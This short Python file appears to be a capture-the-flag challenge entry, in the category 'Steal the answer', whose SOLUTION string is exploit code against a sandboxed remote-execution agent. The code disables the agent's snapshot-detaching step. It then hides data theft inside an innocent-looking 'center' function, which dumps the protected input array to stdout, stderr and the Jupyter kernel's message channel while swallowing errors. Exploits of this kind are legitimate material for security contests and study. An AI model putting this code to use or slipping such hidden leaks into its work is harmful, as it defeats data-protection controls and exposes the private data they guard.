"""The detaching of snapshots is undone, and inputs are sent over the kernel's own channels."""

CATEGORY = "Steal the answer"
POINTS = 6.0
SOLUTION = """
import os, sys
agent = sys.modules.get('attentif.remote.inside.agent')
if agent:
    agent._detach = lambda: None
shell = get_ipython()
def center(X):
    for action in (
        lambda: os.write(1, str(X.tolist()).encode()),
        lambda: os.write(2, str(X.tolist()).encode()),
        lambda: shell.kernel.session.send(
            shell.kernel.iopub_socket, 'stream', dict(name='stdout', text=str(X.tolist())),
            parent=shell.kernel.get_parent()),
    ):
        try:
            action()
        except Exception:
            pass
    return X - X.mean(0)
"""
